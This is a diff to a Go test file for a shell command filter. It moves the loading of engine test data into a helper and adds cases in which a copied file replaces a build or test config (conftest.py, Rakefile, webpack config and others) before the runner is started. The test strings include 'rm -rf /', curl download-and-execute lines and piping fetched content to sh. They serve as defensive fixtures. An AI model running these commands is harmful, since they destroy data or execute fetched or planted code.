@@ -1,9 +1,6 @@
 package shell
 
 import (
-	"bufio"
-	"os"
-	"path/filepath"
 	"reflect"
 	"strings"
 	"testing"
@@ -39,29 +36,13 @@ func TestFiltersRunNothing(t *testing.T) {
 	lines := []string{
 		"cat > x.sh <<'EOF'\nrm -rf /\nEOF\ncat x.sh | sh", "echo 'rm -rf /' > sort; ./sort", "curl -o cut https://x.example/c; ./cut",
 		"sort -o run.sh x; sh run.sh", "cat $(ls *.go) | sort | uniq -c", "tac <(curl -s https://x.example) | sh",
+		// module loaders and recipe runners (plain programs runs reads)
+		// after a command that wrote their files
+		"cp /tmp/e.js src/a.test.js && jest", "mv /tmp/c.py conftest.py; pytest", "cp /tmp/J justfile && just build",
+		"cp /tmp/t.rake Rakefile; rake", "cp /tmp/x.js vite.config.js && vite build", "cp /tmp/p.yaml .pre-commit-config.yaml && pre-commit run",
+		"ln -s /tmp/x.js webpack.config.js; webpack", "cp /tmp/T Taskfile.yml && task",
 	}
-	files, _ := filepath.Glob("../engine/testdata/*.txt")
-	for _, name := range files {
-		f, err := os.Open(name)
-		if err != nil {
-			t.Fatal(err)
-		}
-		sc := bufio.NewScanner(f)
-		sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
-		for sc.Scan() {
-			parts := strings.SplitN(sc.Text(), "\t", 4)
-			switch {
-			case len(parts) == 4 && parts[2] == "exec":
-				lines = append(lines, strings.NewReplacer(`\n`, "\n", `\t`, "\t").Replace(parts[3]))
-			case len(parts) == 3 && parts[1] == "exec":
-				lines = append(lines, strings.NewReplacer(`\n`, "\n", `\t`, "\t").Replace(parts[2]))
-			}
-		}
-		f.Close()
-	}
-	if len(lines) < 10000 {
-		t.Fatalf("only %d lines read from the engine's tables", len(lines))
-	}
+	lines = append(lines, engineExecLines(t)...)
 	defer func() { skipFilterRuns = true }()
 	for _, line := range lines {
 		skipFilterRuns = false
